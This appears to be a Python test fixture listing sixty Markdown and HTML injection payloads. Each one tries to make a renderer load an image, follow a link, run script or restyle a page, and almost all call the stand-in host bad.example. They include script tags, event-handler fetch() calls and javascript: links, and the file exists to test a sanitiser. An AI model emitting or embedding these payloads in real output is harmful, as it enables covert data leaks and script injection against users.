"""Sixty texts that would make a careless page load a picture, follow a link, run a script or change how it looks.

Each names `bad.example`, or the port 9 of this machine: one request to either is a failure. Nothing is drawn here.
"""

from __future__ import annotations

BAD = "http://bad.example"
_IMAGES = [
    "![x]({0}/1.png)", "![]({0}/2.png)", "![x][ref]\n\n[ref]: {0}/3.png", "[![x]({0}/4.png)]({0}/4)",
    "![x](<{0}/5.png>)", '![x]({0}/6.png "t")', "![x](//bad.example/7.png)", "![x](data:image/svg+xml,%3Csvg/%3E)",
    "<img src={0}/9.png>", '<img src="{0}/10.png" onerror="fetch(\'{0}/10\')">', "<IMG SRC=`{0}/11.png`>",
    "<picture><source srcset={0}/12.png><img></picture>", "<svg><image href={0}/13.png /></svg>",
    "&#33;[x]({0}/14.png)", "&lt;img src={0}/15.png&gt;", "\\![x]({0}/16.png)", "!\u200b[x]({0}/17.png)",
    "![x]({0}/18.png) **bold** ![y]({0}/18b.png)", "- ![x]({0}/19.png)", "> ![x]({0}/20.png)",
]  # fmt: skip
_LINKS = [
    "[press]({0}/21)", "<{0}/22>", "{0}/23", "www.bad.example/24", "https://bad.example/25?q=secret",
    "someone@bad.example", "[x](javascript:fetch('{0}/27'))", "<a href={0}/28>x</a>", "[x]: {0}/29\n[x]",
    "[x](mailto:a@bad.example)", "ftp://bad.example/31", "//bad.example/32", "[^1]\n\n[^1]: {0}/33",
    "| a | b |\n|---|---|\n| ![x]({0}/34.png) | c |", "[a\n]({0}/35)",
]  # fmt: skip
_SCRIPTS = [
    "<script>fetch('{0}/36')</script>", "<script src={0}/37.js></script>", "<iframe src={0}/38></iframe>",
    "<link rel=stylesheet href={0}/39.css>", "<style>@import '{0}/40.css';</style>",
    "<object data={0}/41></object>", "<embed src={0}/42>", "<video src={0}/43 autoplay></video>",
    "<audio src={0}/44 autoplay></audio>", "<form action={0}/45><input type=submit></form>",
    "<body onload=fetch('{0}/46')>", "<meta http-equiv=refresh content='0;url={0}/47'>",
    "<base href={0}/48>", "<details open ontoggle=fetch('{0}/49')>x</details>", "<math><mtext><img src={0}/50></math>",
]  # fmt: skip
_LOOKS = [
    "$\\href{{{0}/51}}{{x}}$", "$$\\includegraphics{{{0}/52.png}}$$", ":red[**right**] ![x]({0}/53.png)",
    ":material/home: :smile: ![x]({0}/54.png)", "```html\n<img src={0}/55.png>\n```", "`<img src={0}/56.png>`",
    "# {0}/57", "~~x~~ ![x]({0}/58.png)", "1. ![x]({0}/59.png)", "***\n![x]({0}/60.png)\n===",
]  # fmt: skip
PAYLOADS = tuple(text.format(BAD) for text in (*_IMAGES, *_LINKS, *_SCRIPTS, *_LOOKS))
assert len(PAYLOADS) == 60
